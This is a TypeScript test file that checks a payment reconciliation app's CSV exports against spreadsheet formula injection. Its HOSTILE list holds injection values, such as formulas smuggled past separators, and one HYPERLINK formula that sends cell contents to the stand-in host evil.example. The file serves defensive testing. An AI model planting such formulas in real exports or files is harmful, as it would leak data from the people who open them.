import { text as textOf } from 'node:stream/consumers';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { ingest } from '#reconciliation/books/ingest.ts';
import { exportCsv } from '#reconciliation/reports/export.ts';
import { type ExportList, exportOf } from '#reconciliation/reports/export-filters.ts';
import { csvRows } from '../../support/csv.ts';
import { makeAccount, useDatabase } from '../../support/database.ts';
import { anObservation } from '../../support/observations.ts';
import { unguarded } from '../../support/unguarded.ts';
import { anItem } from '../discrepancies/an-item.ts';

const database = useDatabase();
const LISTS: Record<ExportList, [string, string][]> = {
  ...{ invoices: [], pending: [], callbacks: [], 'refused-callbacks': [], quarantine: [], runs: [] },
  ...{ discrepancies: [['state', 'all']], 'test-payments': [], audit: [], day: [['day', '2026-09-21']] },
};
let accountId = 0;

beforeAll(async () => {
  accountId = await makeAccount(database.sql);
  await ingest(database.sql, [anObservation(accountId, { id: 'cpi_1', processedAmount: 5n })]);
  await anItem(database.sql, accountId, { subject: 'cpi_1' });
  await database.sql`
    insert into audit (actor, act, subject, details, address)
    values ('somebody', 'thing.done', 'thing', '{}', '192.0.2.1')`;
  await fillOtherLists(accountId);
});

/** One of everything that the other lists show. */
async function fillOtherLists(account: number): Promise<void> {
  const { sql } = database;
  await ingest(sql, [anObservation(account, { id: 'cpi_waits', status: 'process_pending' })]);
  await sql`
    insert into callbacks (account_id, received_at, invoice_id, mode, status, updated_at, verdict, body_sha256)
    values (${account}, now(), 'cpi_1', 'live', 'processed', now(), 'new', '')`;
  await sql`
    insert into refused_callbacks (account_id, received_at, reason, message, http_status, excerpt, body_sha256)
    values (${account}, now(), 'bad_signature', 'why', 401, '{}', '')`;
  await sql`
    insert into quarantine (account_id, subject, mode, source, reason, message, body, body_sha256, first_seen_at,
      last_seen_at)
    values (${account}, 'cpi_held', 'live', 'callback', 'too_fine', 'why', '{}', '', now(), now())`;
  await sql`
    insert into runs (account_id, trigger, scope, window_from, window_to)
    values (${account}, 'program', 'window', now(), now())`;
  await sql`
    insert into test_payments (account_id, reference_id, currency, amount, service, state, created_at, changed_at)
    values (${account}, 'ref-guard', 'USD', 100, 'card', 'sent', now(), now())`;
}

async function exported(list: ExportList): Promise<string> {
  const account = { id: accountId, timeZone: 'UTC' };
  return textOf(await exportCsv(database.sql, await exportOf(database.sql, account, list, LISTS[list])));
}

const TRIGGER = /^[\s"\u200b\ufeff]*[=+@＝＋－＠-]|^[\t\r\n]/u;
const PLAIN = /^"*-?\d+(\.\d+)?"*$|^"*\d{4}-\d\d-\d\d( \d\d:\d\d:\d\d(\.\d+)?(\+00)?)?"*$/;
const isDangerous = (cell: string) => TRIGGER.test(cell) && !PLAIN.test(cell);

/** The cells of a file as a spreadsheet would take them that parts them by this sign, and minds quotes or does not. */
function cells(file: string, separator: string, mindsQuotes: boolean): string[] {
  const found: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (const [place, sign] of [...file].entries()) {
    if (mindsQuotes && sign === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) {
      found.push(cell);
      cell = '';
    } else cell += sign;
    if (place === file.length) break;
  }
  return [...found, cell];
}

const WAYS = [
  [',', true],
  [';', true],
  [';', false],
  ['\t', true],
  ['\t', false],
  ['|', false],
] as const;

describe('an export', () => {
  test.each(Object.keys(LISTS) as ExportList[])(
    'of %s lets no text into any column but through the guard',
    async (list) => {
      // Whatever goes through the guard is known by this word: a column that does not shows what it holds.
      const [before] = await database.sql<{ source: string }[]>`
        select pg_get_functiondef('spreadsheet_safe(text)'::regprocedure) as source`;
      await database.sql.unsafe(`
        create or replace function spreadsheet_safe(value text) returns text language sql immutable parallel safe
        return 'guarded'`);
      try {
        const rows = csvRows(await exported(list));
        expect(rows.length).toBeGreaterThan(0);
        const raw = rows.flatMap((row) =>
          Object.entries(row).filter(([, cell]) => cell !== 'guarded' && cell !== '' && !PLAIN.test(cell)),
        );
        expect(raw).toEqual([]);
        expect(Object.values(rows[0] ?? {}).filter((cell) => cell === 'guarded').length).toBeGreaterThan(3);
      } finally {
        await database.sql.unsafe(before?.source ?? '');
      }
    },
  );

  const HOSTILE = [
    ...['=1+2', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '"=1', '＝1+2', '＋1', '－1', '＠x'],
    ...[
      'a;=1',
      'a\t=1',
      'a\n=1',
      'a\r\n=1',
      'a|=1',
      'a";"=1',
      'a;;=1',
      'a;\t=1',
      'a; ＝1',
      "'=1",
      '\ufeff=1',
    ],
    '=HYPERLINK("https://evil.example/?"&A1,"Show")',
  ];

  test.each(HOSTILE)(
    'holds %j in no cell that a spreadsheet would run, whatever parts its cells',
    async (value) => {
      const { sql } = database;
      // What no rule of the database lets in today may be let in tomorrow.
      await sql.unsafe(`
      do $$ declare rule record; begin
        for rule in select conrelid::regclass as place, conname from pg_constraint
          where contype in ('c', 'f') and conrelid in ('invoices'::regclass, 'discrepancies'::regclass) loop
          execute format('alter table %s drop constraint %I', rule.place, rule.conname);
        end loop;
        alter table invoices disable trigger user; alter table discrepancies disable trigger user;
        alter table audit disable trigger user;
      end $$`);
      await sql`update invoices set reference_id = ${value}, status = ${value}, resolution = ${value}, service = ${value}`;
      await sql`
      update discrepancies set reference_id = ${value}, invoice_id = ${value}, kind = ${value}, cause = ${value},
        severity = ${value}, resolution = ${value}, ours = ${value}, theirs = ${value}, note = ${value}`;
      await sql`
      update audit set actor = ${value}, act = ${value}, subject = ${value},
        details = jsonb_build_object('said', ${value}::text)`;
      for (const list of Object.keys(LISTS) as ExportList[]) {
        const file = await exported(list);
        for (const [separator, mindsQuotes] of WAYS)
          expect([list, separator, cells(file, separator, mindsQuotes).filter(isDangerous)]).toEqual([
            list,
            separator,
            [],
          ]);
      }
      const [row] = csvRows(await exported('discrepancies'));
      for (const column of ['reference_id', 'kind', 'resolution', 'note'])
        expect(unguarded(row?.[column] ?? '')).toBe(value);
    },
  );
});

describe('the guard', () => {
  const sign = fc.constantFrom(
    ...[
      '=',
      '+',
      '-',
      '@',
      '＝',
      '＋',
      '－',
      '＠',
      "'",
      '"',
      ';',
      '|',
      ',',
      '\t',
      '\r',
      '\n',
      ' ',
      '\u00a0',
      '\ufeff',
      'a',
      '1',
      'ä',
      '中',
    ],
  );
  const value = fc.oneof(
    fc.string({ unit: sign, maxLength: 12 }),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
  );
  const storable = value.filter((one) => !one.includes('\0'));

  async function guarded(values: readonly string[]): Promise<string[]> {
    const rows = await database.sql<{ safe: string }[]>`
      select spreadsheet_safe(value) as safe
      from unnest(${[...values]}::text[]) with ordinality as given (value, place) order by place`;
    return rows.map(({ safe }) => safe);
  }

  test('disarms every text, and what it did can be taken back, whatever the text was', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(storable, { minLength: 50, maxLength: 200 }), async (values) => {
        const safe = await guarded(values);
        expect(safe.map(unguarded)).toEqual(values);
        for (const one of safe)
          for (const [separator] of WAYS.slice(1))
            expect(cells(one, separator, false).filter(isDangerous)).toEqual([]);
        expect(safe.filter((one) => TRIGGER.test(one))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  test('leaves every other text as it is', async () => {
    const plain = [
      'order-1',
      'a=b',
      'a - b',
      'He said "no", then:\n1,5 €; 中文',
      "it's",
      '',
      'x@shop.example',
      'a;b\tc|d',
    ];
    expect(await guarded(plain)).toEqual(plain);
  });
});
